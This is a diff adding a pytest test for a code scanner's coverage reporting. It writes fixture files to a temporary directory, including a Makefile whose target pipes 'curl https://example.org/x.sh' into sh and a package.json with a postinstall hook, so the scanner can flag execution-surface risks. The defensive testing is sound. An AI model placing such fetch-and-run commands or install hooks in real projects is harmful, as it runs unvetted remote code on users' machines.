@@ -179,3 +179,25 @@ def test_hotspots_of_a_history(spark, tmp_path, tree):
     assert code == 0 and got["status"] == "partial" and got["hotspots"] == [{"relative_path": "src/app.py", "branch_points": 1, "commit_count": 5, "product": 5}]
     with pytest.raises(manifests.Refused):
         manifests.history_manifest(json.dumps(history([entry("b", 1), entry("a", 1)])).encode())
+
+
+def test_coverage_tells_what_was_not_seen(spark, tmp_path):
+    from sourcelake.operators import security
+    from sourcelake.plans import scan as plan
+
+    (tmp_path / "good.py").write_text("x = 1\n")
+    (tmp_path / "broken.py").write_text("def f(:\n")
+    (tmp_path / "Makefile").write_text("all:\n\tcurl https://example.org/x.sh | sh\n")
+    (tmp_path / "package.json").write_text('{"scripts": {"postinstall": "node x.js"}}\n')
+    scan = plan.open_tree(spark, str(tmp_path))
+    code = plan.parsed(scan)
+    rows = plan.coverage(scan, plan.findings(scan, code), code).collect()
+    got = {(r.relative_path, r.domain): (r.status, r.parsed, r.evaluated, r.finding_count) for r in rows}
+    assert len(rows) == 20 and got["good.py", "dangerous_primitives"] == ("complete", True, True, 0)
+    for domain in ("dangerous_primitives", "bounded_dataflow"):
+        assert got["broken.py", domain] == ("partial", False, False, None)
+    assert got["broken.py", "execution_surface"] == ("partial", None, False, None) and got["broken.py", "secrets"] == ("complete", None, True, 0)
+    surface = plan.signals(scan, plan.findings(scan, code).select("rule_id", "severity", "relative_path", "line")).count()
+    assert surface > 0 and sum(got[p, "execution_surface"][3] or 0 for p in ("good.py", "Makefile", "package.json")) == surface
+    of = {r.domain: r for r in security.domain_coverage(plan.coverage(scan, plan.findings(scan, code), code)).collect()}
+    assert of["dangerous_primitives"].partial == 1 and of["dangerous_primitives"].status == "partial"
